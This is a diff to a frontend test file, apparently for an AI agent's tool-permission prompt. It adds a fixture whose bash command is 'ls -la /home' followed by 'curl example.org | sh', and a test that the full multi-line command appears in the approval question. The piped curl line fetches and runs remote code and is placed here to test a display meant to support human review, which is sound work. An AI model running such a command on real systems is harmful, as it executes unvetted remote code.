@@ -21,6 +21,7 @@ const ASKING: EventBody[] = [
     call: "c1",
     question: {
       sentence: "Run a command",
+      exact: "ls -la /home\ncurl example.org | sh",
       reason: "It runs a program.",
       tool: "bash",
       domain: "shell",
@@ -82,4 +83,11 @@ test("once settled it is gone, and the step tells how", async () => {
   );
   expect(screen.queryByRole("button", { name: "Allow once" })).toBe(null);
   expect(screen.getByText("You said no: Not now")).toBeVisible();
+});
+
+test("the whole command stands in the question, line by line", async () => {
+  await drawWindow(<Transcript />, { past: ASKING });
+  expect(screen.getByText(/curl example\.org \| sh/).textContent).toBe(
+    "ls -la /home\ncurl example.org | sh",
+  );
 });
